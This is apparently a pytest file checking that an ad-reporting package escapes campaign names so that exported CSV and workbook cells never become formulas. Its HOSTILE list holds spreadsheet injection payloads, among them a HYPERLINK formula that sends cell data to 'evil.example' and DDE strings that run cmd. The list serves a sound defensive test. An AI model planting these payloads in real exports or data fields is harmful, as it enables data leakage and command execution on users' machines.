"""Names from an ad account never become live formulas in the exported CSV and workbook.

Anyone with access to a client's ad account can name a campaign; the names below are the
classic injections (OWASP's CSV injection list). Read back with openpyxl and csv.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from atribu_pandas.reports.export import TABLE_MIME
from atribu_pandas.reports.tables import write_tables

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _notebook() -> object:
    table = {
        "name": "campaigns",
        "title": "Top campaigns",
        "columns": ["Campaign", "Spend"],
        "data": [[name, 100.0 + i] for i, name in enumerate([*HOSTILE, "-1.5", "Spring Sale"])],
    }
    output = new_output("display_data", data={TABLE_MIME: json.dumps(table)})
    return new_notebook(cells=[new_code_cell("", outputs=[output])])


@pytest.fixture
def files(tmp_path: Path) -> list[Path]:
    return write_tables(_notebook(), tmp_path, "report")


def test_no_workbook_cell_is_a_formula_and_names_read_as_typed(files: list[Path]) -> None:
    book = openpyxl.load_workbook(files[-1])
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # Escaped, not lost (the workbook's XML keeps a carriage return as a line feed).
    assert names == [n.replace("\r", "\n") for n in [*HOSTILE, "-1.5", "Spring Sale"]]
    spends = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert spends == [100.0 + i for i in range(len(HOSTILE) + 2)]


def test_csv_cells_that_would_start_a_formula_are_prefixed(files: list[Path]) -> None:
    with files[0].open(newline="") as handle:
        rows = list(csv.reader(handle))
    names = [row[0] for row in rows[1:]]
    assert names[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
    # A number written as text is a number, not a formula; ordinary names are untouched.
    assert names[len(HOSTILE) :] == ["-1.5", "Spring Sale"]
    assert all(not name.startswith(("=", "+", "@", "\t", "\r")) for name in names)
